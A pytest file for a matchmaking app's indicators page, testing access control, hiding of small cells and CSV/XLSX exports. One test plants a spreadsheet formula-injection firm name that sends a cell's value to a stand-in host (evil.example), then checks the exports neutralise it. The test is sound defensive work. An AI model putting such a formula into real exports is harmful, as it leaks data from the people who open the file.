"""The indicators page, its exports and the public page: who may see them, small cells hidden, the
spreadsheets safe to open."""
from __future__ import annotations

import csv
import io
import re

from openpyxl import load_workbook

from matchmaker.extensions import db

FY2025 = {"from": "2025-04-01", "to": "2026-03-31"}


def test_who_may_open_the_page_and_the_exports(app, client, auth, member, organizer):
    paths = ["/admin/indicators", "/admin/indicators/summary.csv", "/admin/indicators/indicators.xlsx"]
    for path in paths:
        r = client.get(path)
        assert r.status_code == 302 and "/account/login" in r.headers["Location"]
    auth.login(member.email)
    for path in paths:
        assert client.get(path).status_code == 403, path
    assert client.get("/indicators").status_code == 404  # the public page is off by default
    auth.logout()
    auth.login(organizer.email)
    html = client.get("/admin/indicators").get_data(as_text=True)
    assert "この期間に記録された取引はまだありません。" in html  # an empty database renders
    assert client.get("/admin/indicators", query_string={"from": "2025-13-01"}).status_code == 400
    assert client.get("/admin/indicators", query_string={"from": "2025-05-01", "to": "2025-04-01"}).status_code == 400
    assert client.get("/admin/indicators/nothing.csv").status_code == 404
    assert client.get("/admin/indicators/summary.csv", query_string={"encoding": "latin-1"}).status_code == 400


def _cells(html: str, label: str) -> list[str]:
    row = re.search(r'<th scope="row" class="fw-normal">' + re.escape(label) + r"</th>(.*?)</tr>", html, re.S)
    assert row, label
    return re.findall(r'<td class="text-end">(.*?)</td>', row.group(1))


def test_page_hides_small_cells_and_compares(app, client, auth, make, world):
    organizer = make.user(role="organizer", email="organizer-en@example.com", locale="en")
    auth.login(organizer.email)
    html = client.get("/admin/indicators", query_string=FY2025, headers={"Accept-Language": "en"}).get_data(as_text=True)
    assert "<svg" in html and "<script" not in html.split("<main")[-1].split("</main>")[0]
    assert _cells(html, "Number of deals")[:3] == ["7", "&lt; 3", "—"]  # the year before: one deal, two firms
    # local deals: two buyers only; domestic: one supplier; both hidden, and the share with them
    assert _cells(html, "Number of deals: Local")[0] == "&lt; 3"
    assert _cells(html, "Number of deals: Elsewhere in Japan")[0] == "&lt; 3"
    assert _cells(html, "Local share of deals (by count)")[0] == "&lt; 3"
    assert "1,280,000" in _cells(html, "Deal amount (JPY)")[0]
    # with the setting at 1 every figure shows
    app.config["MATCHMAKER_INDICATORS_MIN_FIRMS"] = 1
    html = client.get("/admin/indicators", query_string=FY2025, headers={"Accept-Language": "en"}).get_data(as_text=True)
    assert _cells(html, "Number of deals: Local")[0] == "5" and _cells(html, "Local share of deals (by count)")[0] == "71.4%"
    assert _cells(html, "Median time to first quote (hours)")[0] == "7.0"
    assert world.D1.name in html  # the nearest supplier outside the city of a gap


def test_exports(app, client, auth, organizer, world):
    from matchmaker.models import Firm

    # a firm name that a spreadsheet would run as a formula, shown in the supply gaps
    db.session.get(Firm, world.D1.id).name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    db.session.commit()
    auth.login(organizer.email)
    r = client.get("/admin/indicators/summary.csv", query_string=FY2025, headers={"Accept-Language": "ja"})
    assert r.status_code == 200 and r.data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))
    assert rows[0][:2] == ["指標", "当期"] and ["取引件数", "7", "< 3", ""] in rows
    assert ["取引件数（地元）", "< 3", "< 3", ""] in rows and ["取引金額（円）", "1280000", "< 3", ""] in rows
    r = client.get("/admin/indicators/summary.csv", query_string={**FY2025, "encoding": "cp932"},
                   headers={"Accept-Language": "ja"})
    assert "Shift_JIS" in r.headers["Content-Type"] and "取引件数" in r.data.decode("cp932")

    r = client.get("/admin/indicators/supply_gaps.csv", query_string=FY2025)
    text = r.data.decode("utf-8-sig")
    assert "'=HYPERLINK" in text and ',=HYPERLINK' not in text and '"=HYPERLINK' not in text

    r = client.get("/admin/indicators/indicators.xlsx", query_string=FY2025)
    assert r.status_code == 200
    wb = load_workbook(io.BytesIO(r.data))
    assert len(wb.sheetnames) == 5
    summary = wb[wb.sheetnames[0]]
    assert [c.value for c in summary[2]][:3] == ["取引件数", 7, "< 3"]
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(c.value.startswith("'=HYPERLINK") for c in cells)
    assert not any(c.data_type == "f" or c.value.startswith("=") for c in cells)
